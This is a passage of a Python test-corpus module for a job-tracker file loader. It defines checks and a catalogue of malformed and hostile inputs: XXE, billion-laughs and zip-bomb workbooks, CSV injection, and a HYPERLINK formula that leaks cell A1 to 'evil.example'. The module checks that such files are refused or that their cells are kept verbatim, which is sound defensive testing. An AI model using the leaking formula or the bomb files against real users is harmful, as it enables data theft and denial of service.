    assert set(_apps(result)["company"]) == {"Acme Corp", "Globex", "Initech"}
    assert _reply_of(result, "Acme Corp") == pd.Timestamp("2025-03-05")
    assert _reply_of(result, "Initech") == pd.Timestamp("2025-03-14")


def c_future(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_reply_before(result: object) -> None:
    a = _apps(result)
    acme = a.loc[a["company"] == "Acme Corp"].iloc[0]
    assert pd.isna(acme["first_reply_on"]) or acme["first_reply_on"] >= acme["applied_on"]


def c_same_day(result: object) -> None:
    assert _reply_of(result, "Globex") == pd.Timestamp("2025-03-03")


def c_no_year(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED  # no year invented for "8-Jul"


def c_two_digit(result: object) -> None:
    assert _applied_dates(result) == ["2022-06-02", "2022-06-18", "2022-07-04", "2022-12-30"]


def c_mixed_md_dm(result: object) -> None:
    # Whatever is kept must be a correct reading: 25/03 and 27/04 are D/M,
    # 03/26 and 05/28 are M/D; 04/02 is ambiguous (April 2 or 4 February).
    ok = {"2025-03-25", "2025-03-26", "2025-04-27", "2025-05-28", "2025-04-02", "2025-02-04"}
    assert set(_applied_dates(result)) <= ok


def c_1904(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED
    assert _reply_of(result, "Hooli") == pd.Timestamp("2025-04-20")


def c_timezones(result: object) -> None:
    a = _apps(result)
    assert a["applied_on"].dt.tz is None, "applied_on must be tz-naive"
    assert _applied_dates(result) == BASE_APPLIED  # the local day as written


def _companies(names: list[str]) -> Callable[[object], None]:
    def check(result: object) -> None:
        assert set(_apps(result)["company"]) == set(names)
    return check


def c_semicolon(result: object) -> None:
    assert _applied_dates(result) == ["2025-03-13", "2025-04-01", "2025-05-02"]
    assert set(_apps(result)["company"]) == {"Acme GmbH", "Globex AG", "Initech SE"}


def c_newlines(result: object) -> None:
    a = _apps(result)
    note = a.loc[a["company"] == "Acme Corp", "notes"].iloc[0]
    assert note == 'Line one\nLine two, with a comma\n"quoted" line three'
    assert _applied_dates(result) == BASE_APPLIED


def c_long(result: object) -> None:
    a = _apps(result)
    assert a["applied_on"].min() == pd.Timestamp("2020-01-01")
    assert int(a["first_reply_on"].notna().sum()) == -(-LONG_ROWS // 3)


def j_long(out: dict) -> None:
    assert out["first_applied"] == "2020-01-01"
    # A reply is on record when row i has a reply date (i % 3 == 0) or a status
    # saying so (i % 4 in {1, 2}: Rejected, Interview). Per 12 rows: 4 + 6 - 2
    # (i = 6, 9 have both) = 8.
    assert LONG_ROWS % 12 == 0
    assert out["responses"] == LONG_ROWS // 12 * 8


def c_hidden_sheet(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED  # the visible sheet, hidden row included


def c_duplicates(result: object) -> None:
    assert (_apps(result)["company"] == "Globex").sum() == 2


def c_status_dates(result: object) -> None:
    a = _apps(result).set_index("company")
    assert a.loc["Umbrella", "first_reply_on"] == pd.Timestamp("2025-04-10")
    assert a.loc["Umbrella", "stage"] != "applied"
    assert a.loc["Globex", "stage"] == "interview"


def c_blank_total(result: object) -> None:
    assert _applied_dates(result) == BASE_APPLIED


def c_missing_date(result: object) -> None:
    assert "Umbrella" not in set(_apps(result)["company"])


def c_hyperlink(result: object) -> None:
    names = set(_apps(result)["company"])
    assert '=HYPERLINK("http://x","y")' in names
    a = _apps(result)
    note = a.loc[a["company"] == "Globex", "notes"].iloc[0]
    assert note == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def c_xlsx_hyperlink(result: object) -> None:
    assert "y" in set(_apps(result)["company"])  # the cached value Excel shows


# --- the catalogue -----------------------------------------------------------

_N = len(ROWS)
_RESAVE = ("xlsx", "csv")

CASES: tuple[Case, ...] = (
    # refused before parsing
    Case("empty_file", "empty.csv", b_empty, "error", "0-byte file",
         UnreadableFileError, ("empty",)),
    Case("missing_file", "does_not_exist.csv", b_missing, "error", "path that does not exist",
         InputError, ("check the path",)),
    Case("directory", "a_folder.csv", b_directory, "error", "a folder given as the file",
         InputError, ("folder",)),
    Case("corrupt_zip", "corrupt.xlsx", b_corrupt_zip, "error",
         "zip magic followed by random bytes", UnreadableFileError, ("damaged", *_RESAVE)),
    Case("truncated_xlsx", "truncated.xlsx", b_truncated_xlsx, "error",
         "a real workbook cut in half (interrupted download)", UnreadableFileError, ("damaged",)),
    Case("legacy_xls", "old_tracker.xls", b_legacy_xls, "error",
         "Excel 97-2003 compound file with a Workbook stream", UnsupportedFormatError,
         ("re-save as .xlsx or CSV",)),
    Case("legacy_xls_named_xlsx", "old_renamed.xlsx", b_legacy_xls, "error",
         "a legacy .xls renamed .xlsx: the content decides", UnsupportedFormatError,
         ("re-save as .xlsx or CSV",)),
    Case("password_xlsx", "locked.xlsx", b_password_xlsx, "error",
         "password-protected workbook: OLE2 with EncryptionInfo/EncryptedPackage streams",
         UnreadableFileError, ("password-protected", "remove the password")),
    Case("xxe", "xxe.xlsx", b_xxe, "error", "sheet XML declares an external entity",
         UnreadableFileError, ("DOCTYPE", "sheet1.xml")),
    Case("billion_laughs", "lol.xlsx", b_billion_laughs, "error",
         "sheet XML with nested entities (10^9 expansion)", UnreadableFileError,
         ("DOCTYPE", "sheet1.xml")),
    Case("doctype_after_long_comment", "comment_xxe.xlsx", b_doctype_after_long_comment, "error",
         "a DOCTYPE hidden after a 200 KB comment", UnreadableFileError, ("DOCTYPE",)),
    Case("doctype_utf16", "utf16_xxe.xlsx", b_doctype_utf16, "error",
         "a DOCTYPE in a UTF-16 encoded member", UnreadableFileError, ("DOCTYPE", "sheet2.xml")),
    Case("ods_xxe", "xxe.ods", b_ods_xxe, "error", "OpenDocument content.xml with an entity",
         UnreadableFileError, ("DOCTYPE", "content.xml")),
    Case("zip_bomb_total", "bomb_total.xlsx", b_zip_bomb_total, "error",
         "a 600 MB member of zeros (~600 KB on disk): over the total limit",
         UnreadableFileError, ("zip bomb",), slow=True),
    Case("zip_bomb_ratio", "bomb_ratio.xlsx", b_zip_bomb_ratio, "error",
         "a 100 MB member of zeros: compression ratio ~1000", UnreadableFileError,
         ("zip bomb", "image1.bin"), slow=True),
    Case("zip_lying_size", "lying.xlsx", b_zip_lying_size, "error",
         "a 20 MB member declaring 2,000 bytes (a bomb that lies about its size)",
         UnreadableFileError, ("damaged", "sheet1.xml")),
    Case("too_many_members", "many_parts.xlsx", b_too_many_members, "error",
         "10,001 extra members", UnreadableFileError, ("parts",)),
    Case("nested_zip", "nested.xlsx", b_nested_zip, "error", "a zip inside the workbook",
         UnreadableFileError, ("nested", "payload.bin")),
    Case("encrypted_member", "zipcrypto.xlsx", b_encrypted_member, "error",
         "members flagged as ZipCrypto-encrypted", UnreadableFileError,
         ("encrypted", "password")),
    Case("pdf_named_xlsx", "tracker.xlsx.pdf.xlsx", b_pdf, "error", "a PDF with an xlsx name",
         UnsupportedFormatError, ("PDF",)),
    Case("binary_garbage", "garbage.csv", b_binary_garbage, "error",
         "random bytes with NULs named .csv", UnreadableFileError, ("binary",)),
    Case("html_named_xls", "export.xls", b_html_as_xls, "error",
         "a web page saved as .xls by a web app", UnsupportedFormatError, ("web page",)),
    # refused by the loader (content)
    Case("header_only", "header_only.csv", b_header_only, "empty", "header row and nothing else"),
    Case("blank_lines_only", "blank.csv", b_blank_lines_only, "empty",
         "only blank lines and empty cells"),
    Case("empty_sheet", "empty_sheet.xlsx", b_empty_sheet, "empty", "a workbook with no cells"),
    Case("no_date_column", "no_dates.csv", b_no_date_column, "error",
         "no column holds the applied date", MissingColumnError, ("date",)),
    Case("no_header", "shopping.csv", b_no_header, "error",
         "nothing looks like a tracker header", HeaderNotFoundError, ()),
    # loaded, with what was dropped reported
    Case("xlsx_named_csv", "tracker_xlsx.csv", b_xlsx_named_csv, "ok",
         "a real workbook with a .csv name: read by content", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("csv_named_xlsx", "tracker_csv.xlsx", b_csv_named_xlsx, "ok",
         "a CSV with an .xlsx name: read by content", rows=_N, applications=_N, dropped=0,
         check=c_base_dates),
    Case("merged_header", "merged.xlsx", b_merged_header, "ok",
         "merged title row above the header; a company merged over two rows",
         rows=_N, applications=_N, dropped=0, check=c_merged),
    Case("duplicated_headers", "dup_headers.csv", b_duplicated_headers, "ok",
         "two columns called Notes: both kept under unique names", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("header_below_row_20", "deep_header.xlsx", b_header_below_row_20, "ok",
         "22 lines of instructions, header on row 24", rows=_N, applications=_N,
         check=c_base_dates),
    Case("excel_errors", "errors.xlsx", b_excel_errors, "ok",
         "#REF! in the applied date (row dropped, reported); #N/A / #VALUE! elsewhere (kept)",
         rows=_N + 4, applications=_N + 3, dropped=1, warnings=("#REF!",)),
    Case("formulas_cached", "formulas.xlsx", b_formulas_cached, "ok",
         "dates, text and numbers from formulas: the cached values are used",
         rows=3, applications=3, dropped=0, check=c_formulas),
    Case("future_dates", "future.csv", b_future_dates, "ok",
         "applied in 2030/2031, after the as-of date: dropped and reported",
         rows=_N + 2, applications=_N, dropped=2, warnings=("2031",), check=c_future),
    Case("reply_before_application", "reply_before.csv", b_reply_before_application, "ok",
         "reply dated before the application: application kept, reply not trusted, warned",
         rows=_N, applications=_N, dropped=0, warnings=("before",), check=c_reply_before),
    Case("reply_same_day", "same_day.csv", b_reply_same_day, "ok",
         "reply on the application day: a reply at day 0", rows=_N, applications=_N,
         dropped=0, check=c_same_day),
    Case("dates_without_year", "no_year.csv", b_dates_without_year, "ok",
         "'8-Jul' with no year: not guessed; rows dropped and reported",
         rows=_N + 2, applications=_N, dropped=2, warnings=("8-Jul",), check=c_no_year),
    Case("garbled_dates", "garbled.csv", b_garbled_dates, "ok",
         "'8/82019': dropped and reported", rows=_N + 1, applications=_N, dropped=1,
         warnings=("8/82019",), check=c_base_dates),
    Case("two_digit_years", "linkedin.csv", b_two_digit_years, "ok",
         "LinkedIn 'M/D/YY, h:mm AM': 22 is 2022", rows=4, applications=4, dropped=0,
         check=c_two_digit),
    Case("mixed_md_dm", "mixed_order.csv", b_mixed_md_dm, "ok",
         "D/M and M/D in one column: never a wrong date; the ambiguity is reported",
         rows=_N, warnings=("month",), check=c_mixed_md_dm),
    Case("date1904", "mac1904.xlsx", b_date1904, "ok",
         "workbook in the 1904 date system: serials 1462 days smaller", rows=_N,
         applications=_N, dropped=0, check=c_1904),
    Case("timezones", "tz.csv", b_timezones, "ok",
         "ISO timestamps with offsets: tz-naive, the local day as written", rows=_N,
         applications=_N, dropped=0, check=c_timezones),
    Case("cp1252", "cp1252.csv", b_cp1252, "ok", "Windows-1252 text (en dash, accents)",
         rows=_N, applications=_N, dropped=0,
         check=_companies([*NONASCII[:2], "Crème Brûlée", "Naïve Bayes", "Señor Data"])),
    Case("latin1", "latin1.csv", b_latin1, "ok", "ISO-8859-1 text", rows=_N, applications=_N,
         dropped=0, check=_companies(["Zürich Re", "Ångström AB", "Øresund", "Façade",
                                      "Großbank"])),
    Case("utf16", "unicode.txt", b_utf16, "ok", "Excel 'Unicode Text': UTF-16 LE, BOM, tabs",
         rows=_N, applications=_N, dropped=0, check=_companies(NONASCII)),
    Case("utf8_bom", "bom.csv", b_utf8_bom, "ok", "UTF-8 with BOM before the first header",
         rows=_N, applications=_N, dropped=0, check=c_base_dates),
    Case("semicolon_decimal_comma", "german.csv", b_semicolon_decimal_comma, "ok",
         "';' separated, decimal commas, D.M.YYYY dates", rows=3, applications=3, dropped=0,
         check=c_semicolon),
    Case("quoted_newlines", "newlines.csv", b_quoted_newlines, "ok",
         "notes with line breaks inside quotes", rows=_N, applications=_N, dropped=0,
         check=c_newlines),
    Case("long_sheet", "long.csv", b_long_sheet, "ok", f"{LONG_ROWS:,} rows", rows=LONG_ROWS,
         applications=LONG_ROWS, dropped=0, check=c_long, cli_check=j_long, slow=True),
    Case("wide_sheet", "wide.xlsx", b_wide_sheet, "ok", f"{WIDE_COLS:,} columns", rows=_N,
         applications=_N, dropped=0, check=c_base_dates),
    Case("hidden_sheet_rows_cols", "hidden.xlsx", b_hidden_sheet_rows_cols, "ok",
         "hidden sheet of old applications (not used); hidden row and date column (used)",
         rows=_N, applications=_N, dropped=0, check=c_hidden_sheet),
    Case("hidden_rows", "hidden_rows.xlsx", b_hidden_rows, "ok",
         "rows hidden to tidy up are still applications", rows=_N, applications=_N,
         dropped=0, check=c_base_dates),
    Case("duplicates", "dups.csv", b_duplicates, "ok",
         "same company, title and date twice: kept and warned", rows=_N + 2,
         applications=_N + 2, dropped=0, warnings=("duplicate",), check=c_duplicates),
    Case("status_contradicts_dates", "contradict.csv", b_status_contradicts_dates, "ok",
         "'Ghosted' with a reply date; 'Applied' with an interview date: the dates win",
         rows=_N, applications=_N, dropped=0, check=c_status_dates),
    Case("blank_rows_and_total", "total.csv", b_blank_rows_and_total, "ok",
         "blank rows inside, a 'Total: 5' line at the bottom (dropped, reported)",
         rows=_N + 1, applications=_N, dropped=1, check=c_blank_total),
    Case("missing_applied_date", "no_date_row.csv", b_missing_applied_date, "ok",
         "one row without an applied date: dropped and reported", rows=_N,
         applications=_N - 1, dropped=1, check=c_missing_date),
    Case("hyperlink_formula_csv", "hyperlink.csv", b_hyperlink_formula, "ok",
         "=HYPERLINK(...) text in a CSV: kept verbatim, never evaluated", rows=_N,
         applications=_N, dropped=0, check=c_hyperlink),
    Case("csv_injection", "injection.csv", b_csv_injection, "ok",
         "cells starting with = + - @: kept verbatim as text", rows=_N, applications=_N,
         dropped=0, check=_companies(INJECTIONS)),
    Case("hyperlink_formula_xlsx", "hyperlink.xlsx", b_xlsx_hyperlink_formula, "ok",
         "a HYPERLINK formula in a workbook: its cached text", rows=_N, applications=_N,
         dropped=0, check=c_xlsx_hyperlink),
)


#: Cases :func:`jobstats.load.safety.check_file` itself must refuse, before any parser.
EARLY: frozenset[str] = frozenset(
    c.name for c in CASES
    if c.outcome == "error" and c.error in (UnreadableFileError, UnsupportedFormatError, InputError)
)


def write_case(case: Case, folder: Path) -> Path:
    """Write ``case`` into ``folder``; return the path given to jobstats."""
    path = Path(folder) / case.filename
    case.build(path)
    return path


def main(argv: list[str] | None = None) -> int:
    """Write the corpus into a folder and print what each file is."""
    args = sys.argv[1:] if argv is None else argv
    if not args:
        print(__doc__)
        return 2
    folder = Path(args[0])
    folder.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        if case.slow and "--with-slow" not in args:
            continue
        write_case(case, folder)
        print(f"{case.filename:32} {case.outcome:6} {case.doc}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
